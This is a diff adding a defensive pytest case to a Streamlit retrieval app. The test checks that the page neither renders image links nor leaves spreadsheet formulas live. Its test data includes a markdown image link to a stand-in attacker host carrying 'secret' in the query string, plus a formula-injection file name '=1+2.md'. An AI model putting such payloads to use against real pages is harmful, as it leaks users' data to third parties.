@@ -10,6 +10,9 @@ import pytest
 import streamlit as st
 from streamlit.testing.v1 import AppTest
 
+from ragkit.markup import plain
+from ragkit_testing.pages import HOSTILE, markdown_of, pictures
+
 PAGE = Path(__file__).parent.parent / "app.py"
 ANSWERS = {
     "/api/documents": {
@@ -69,10 +72,26 @@ def test_an_answer_comes_with_its_sources_and_fetches_nothing(
     test.button[0].click().run()
     assert not test.exception
     assert test.markdown[0].value == "Two minutes [1]. !\\[x](http://elsewhere)"
-    assert "tea.md" in test.expander[0].label
+    assert plain("tea.md") in test.expander[0].label
     assert test.dataframe[0].value["Name"].tolist() == ["tea.md"]
 
 
 def test_without_the_api_the_page_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
     test = page("http://127.0.0.1:1", monkeypatch)
     assert "does not answer" in test.error[0].value
+
+
+def test_no_name_and_no_answer_makes_the_browser_fetch_a_picture(
+    api: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    document = {"id": "1", "name": "=1+2.md", "chunks": 2, "size_bytes": 2048}
+    source = {"document": HOSTILE, "chunk": 0, "text": HOSTILE, "score": 0.9}
+    answer = {"answer": f"!{HOSTILE} !![a](http://evil.example/?d=secret)", "sources": [source]}
+    monkeypatch.setitem(ANSWERS, "/api/documents", {"total": 1, "documents": [document]})
+    monkeypatch.setitem(ANSWERS, "/api/query", answer)
+    test = page(api, monkeypatch)
+    test.text_input[0].set_value("How long?")
+    test.button[0].click().run()
+    assert "\n".join(markdown_of(test)).count("evil") == 3, "the answer has two, the title one"
+    assert pictures(test) == []
+    assert test.dataframe[0].value["Name"].tolist() == ["'=1+2.md"]
